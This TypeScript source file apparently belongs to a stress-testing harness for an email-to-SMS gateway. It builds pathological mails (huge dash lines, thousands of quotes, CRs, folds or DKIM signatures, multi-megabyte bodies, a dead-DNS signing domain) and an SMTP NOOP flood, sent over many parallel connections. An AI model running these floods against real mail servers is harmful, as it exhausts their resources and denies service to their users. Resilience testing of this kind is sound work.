/** E-mails that are cheap to write and expensive to read. */
import { createHash } from 'node:crypto';
import { type Attack, deadMailSender, flood, mailSender, scaled, type Target } from './attack.ts';
import { bring, command } from './smtp-client.ts';

type Shape = {
  name: string;
  does: string;
  connections?: number;
  from?: string;
  /** The mail as it goes over the wire. */
  mail: (target: Target, serial: number) => Buffer;
};

function mailAttack({ name, does, connections = 4, from = mailSender, mail }: Shape): Attack {
  return {
    name: `mail-${name}`,
    does: `e-mails from ${connections} connections: ${does}`,
    accepts: 'e-mails',
    async run(target, report) {
      let serial = 0;
      report.atStrength();
      await flood(report, connections, async () => {
        const answer = await bring(target, from, mail(target, serial++), report.signal);
        report.count(answer.slice(0, 3));
        if (answer.startsWith('2')) report.accepted();
      });
    },
  };
}

const crlf = '\r\n';

/** A valid request except for what the attack adds, so that nothing ends its parsing early. */
function request({ attacker }: Target): string {
  const tags = ['#apikey#', attacker.mailKey, '#sender#', 'Shop', '#startdestination#', '+38640123456'];
  return [...tags, '#enddestination#', '#startcontent#', 'Hello', '#endcontent#', ''].join(crlf);
}

function heads(serial: number, from = mailSender): string {
  const id = `<${process.pid}.${serial}@attack.test>`;
  return [`From: ${from}`, 'To: sms@localhost', 'Subject: Attack', `Message-ID: ${id}`, ''].join(crlf);
}

/** With these headers in front of the usual ones. */
function single(target: Target, serial: number, headers: string, from = mailSender): Buffer {
  return Buffer.from(`${headers}${heads(serial, from)}${crlf}${request(target)}`, 'latin1');
}

function multipart(serial: number, parts: (string | Buffer)[]): Buffer {
  const boundary = 'part';
  const head = `${heads(serial)}Content-Type: multipart/mixed; boundary=${boundary}${crlf}`;
  const pieces = parts.flatMap((part) => [`${crlf}--${boundary}${crlf}`, part]);
  return Buffer.concat([head, ...pieces, `${crlf}--${boundary}--${crlf}`].map((piece) => Buffer.from(piece as string)));
}

function signature(target: Target, fields: string): string {
  const bodyHash = createHash('sha256').update(request(target)).digest('base64');
  const tags = `v=1; a=rsa-sha256; c=simple/simple; d=attack.test; s=one; bh=${bodyHash}; b=${'A'.repeat(342)}==`;
  return `DKIM-Signature: ${tags}; h=${fields}${crlf}`;
}

const shapes: Shape[] = [
  {
    name: 'dashes',
    does: 'multipart, with a line of 65,000 dashes',
    mail: (target, serial) =>
      Buffer.from(
        `${heads(serial)}Content-Type: multipart/mixed${crlf}${crlf}${'-'.repeat(scaled(65_000, target))} x${crlf}`,
      ),
  },
  {
    name: 'quotes',
    does: '900 parts with a charset of 8,000 quotes',
    mail: (target, serial) => {
      const head = `Content-Type: text/plain; charset="x${"'".repeat(8_000)}x"${crlf}${crlf}a`;
      return multipart(serial, Array<string>(scaled(900, target)).fill(head));
    },
  },
  {
    name: 'blanks',
    does: 'a signature whose h= ends in 64,000 blanks',
    mail: (target, serial) => single(target, serial, signature(target, `from${' '.repeat(scaled(64_000, target))}`)),
  },
  {
    name: 'carriage-returns',
    does: 'a signed header of 64,000 CR',
    mail: (target, serial) =>
      single(target, serial, `${signature(target, 'from:x-a')}X-A: a${'\r'.repeat(scaled(64_000, target))}b${crlf}`),
  },
  {
    name: 'folds',
    does: 'a signed header of 64,000 folded lines',
    mail: (target, serial) =>
      single(
        target,
        serial,
        `${signature(target, 'from:x-a')}X-A: a${`${crlf} b`.repeat(scaled(64_000, target))}${crlf}`,
      ),
  },
  {
    name: 'signatures',
    does: '1,600 signatures, each with a key to look up',
    mail: (target, serial) => single(target, serial, signature(target, 'from').repeat(scaled(1_600, target))),
  },
  {
    name: 'parts',
    does: '24 MB in 100 parts without a charset',
    connections: 2,
    mail: (target, serial) => {
      const part = Buffer.concat([
        Buffer.from(`Content-Type: text/plain${crlf}${crlf}`),
        Buffer.alloc(scaled(240_000, target), `\xe8\xb9\xbe text ${crlf}`, 'latin1'),
      ]);
      return multipart(serial, Array<Buffer>(100).fill(part));
    },
  },
  {
    name: 'dots',
    does: '8 MB of lines that begin with a dot',
    mail: (target, serial) =>
      Buffer.concat([Buffer.from(`${heads(serial)}${crlf}`), Buffer.alloc(4 * scaled(2_000_000, target), `..${crlf}`)]),
  },
  {
    name: 'small',
    does: 'as many as can be, each of them small',
    connections: 100,
    mail: (target, serial) => single(target, serial, ''),
  },
  {
    name: 'dead-dns',
    does: 'signed by a domain whose name server never answers',
    connections: 50,
    from: deadMailSender,
    mail: (target, serial) =>
      single(
        target,
        serial,
        signature(target, 'from').replace('d=attack.test', `d=${deadMailSender.split('@')[1]}`),
        deadMailSender,
      ),
  },
];

/** Connections without a mail: the work of the listener for every client that speaks to it. */
const commands: Attack = {
  name: 'mail-commands',
  does: '500 commands on each of 20 connections, in one piece, again and again',
  accepts: 'commands',
  async run(target, report) {
    report.atStrength();
    await flood(report, 20, async () => {
      const answers = await command(target, 'NOOP', scaled(500, target), report.signal);
      report.count(`${answers > 0 ? 'answered' : 'refused'}`);
      report.accepted(answers);
    });
  },
};

export const mailAttacks: Attack[] = [...shapes.map(mailAttack), commands];
